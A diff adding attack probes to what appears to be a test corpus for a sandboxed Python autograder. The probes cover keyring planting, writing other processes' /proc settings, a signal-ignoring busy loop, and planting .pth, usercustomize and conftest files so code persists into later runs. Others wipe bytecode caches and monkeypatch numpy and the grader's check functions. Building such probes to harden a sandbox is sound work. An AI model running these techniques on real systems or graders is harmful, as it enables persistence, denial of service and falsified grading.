@@ -83,3 +83,54 @@ print("\x1b]0;owned\x07\x1b[2J\x1b[31m all red")
 import ctypes
 libc = ctypes.CDLL(None)
 shm = libc.shmget(0x1234, 4096, 0o1666)
+
+# %% attack="a key in the keyrings" status="graded" score=12
+import ctypes, os
+libc = ctypes.CDLL(None)
+for ring in (-3, -4, -5):  # the session's, the user's, the user's session's: they stay for the next, who may read
+    if os.uname().machine == "x86_64" and libc.syscall(248, b"user", b"left_by_mallory", b"x", 1, ring) >= 0:
+        os._exit(1)
+
+# %% attack="the server first in line to be killed" status="graded" score=12
+import os
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for name, value in (("oom_score_adj", "1000"), ("autogroup", "19"), ("coredump_filter", "0x7f")):
+        try:
+            with open(f"/proc/{pid}/{name}", "w") as file:
+                file.write(value)
+            os._exit(1)
+        except OSError:
+            pass
+
+# %% attack="lives on when its keeper dies" status="timeout" score=12
+import ctypes, signal
+ctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG
+for number in range(1, 32):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+while True:
+    pass
+
+# %% attack="Python's start-up files and caches" status="graded" score=12
+import importlib.util, os, sys
+for place in {*sys.path, *os.environ.get("PYTHONPATH", "").split(":"), "/course/bnlib/check", "{ROOT}"}:
+    for name in ("left_by_mallory.pth", "usercustomize.py", "conftest.py", "matplotlibrc"):
+        try:
+            with open(os.path.join(place, name), "w") as file:
+                file.write("import os; os._exit(1)")
+        except OSError:
+            pass
+for module in [m for m in sys.modules.values() if getattr(m, "__file__", None)]:
+    try:
+        with open(importlib.util.cache_from_source(module.__file__), "wb") as file:
+            file.write(b"")
+    except (OSError, NotImplementedError):
+        pass
+
+# %% attack="imported modules written over in memory" status="graded" score=12
+import numpy as np, bnlib.check.calls, gc
+np.mean = np.var = np.sqrt
+bnlib.check.calls.call.__defaults__ = (None,)
+gc.unfreeze()
